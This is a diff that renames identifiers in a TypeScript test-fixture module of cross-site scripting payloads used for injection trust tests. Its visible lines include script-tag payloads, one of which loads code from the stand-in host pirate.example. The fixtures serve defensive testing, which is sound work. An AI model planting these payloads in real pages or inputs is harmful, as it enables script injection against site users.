@@ -2,7 +2,7 @@
  * Texts that try to run a script, open a dialog, leave the origin or change the page (trust cases INJ-01 and 02), by technique. A successful one calls
  * `xss()`, or requests something from `pirate.example`. Tests put them wherever a person, a document or a model writes.
  */
-const byWay: Record<string, readonly string[]> = {
+const byTechnique: Record<string, readonly string[]> = {
   script: [
     '<script>xss()</script>',
     '<SCRIPT SRC=//pirate.example/x.js></SCRIPT>',
@@ -207,12 +207,12 @@ const byWay: Record<string, readonly string[]> = {
 }
 
 /** All hostile texts, without duplicates. */
-export const hostileTexts: readonly string[] = [...new Set(Object.values(byWay).flat())]
+export const hostileTexts: readonly string[] = [...new Set(Object.values(byTechnique).flat())]
 
 /** First hostile text of each technique. */
-export const hostileSamples: readonly string[] = [...new Set(Object.values(byWay).map((texts) => texts[0]!))]
+export const hostileSamples: readonly string[] = [...new Set(Object.values(byTechnique).map((texts) => texts[0]!))]
 
-/** Hostile texts valid in a single-line field: control characters and line breaks replaced with spaces, trimmed, and at most `most` characters long. */
-export const hostileLines = (most: number, texts: readonly string[] = hostileTexts): string[] => [
-  ...new Set(texts.map((text) => text.replace(/[\p{Cc}\u2028\u2029]+/gu, ' ').trim()).filter((text) => text.length <= most)),
+/** Hostile texts valid in a single-line field: control characters and line breaks replaced with spaces, trimmed, and at most `maxLength` characters long. */
+export const hostileLines = (maxLength: number, texts: readonly string[] = hostileTexts): string[] => [
+  ...new Set(texts.map((text) => text.replace(/[\p{Cc}\u2028\u2029]+/gu, ' ').trim()).filter((text) => text.length <= maxLength)),
 ]
